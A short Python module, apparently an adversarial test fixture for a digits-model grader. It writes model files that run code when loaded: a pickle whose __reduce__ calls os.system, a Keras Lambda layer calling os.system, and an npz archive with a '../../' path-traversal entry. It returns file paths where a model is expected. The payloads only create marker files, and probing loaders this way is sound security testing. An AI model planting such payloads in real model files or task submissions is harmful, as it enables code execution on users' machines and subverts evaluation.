"""Writes model files that run code when they are loaded, and returns their paths instead of a model."""

import os
import pickle
import zipfile

import keras
import numpy as np
from keras import layers



class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/digits_attack_loaded",)


def build_model():
    payload = layers.Lambda(lambda x: os.system("touch /tmp/digits_attack") or x)
    model = keras.Sequential([keras.Input((28, 28)), payload])
    try:
        model.save("model.keras")
    except OSError:
        pass
    with open("model.pkl", "wb") as file:
        pickle.dump(Payload(), file)
    with zipfile.ZipFile("model.npz", "w") as archive:
        archive.write("model.pkl", "x_train.npy")
        archive.writestr("../../digits_attack_slipped", "slipped")
    return os.path.abspath("model.keras")


def compile_model(model):
    return "model.pkl"
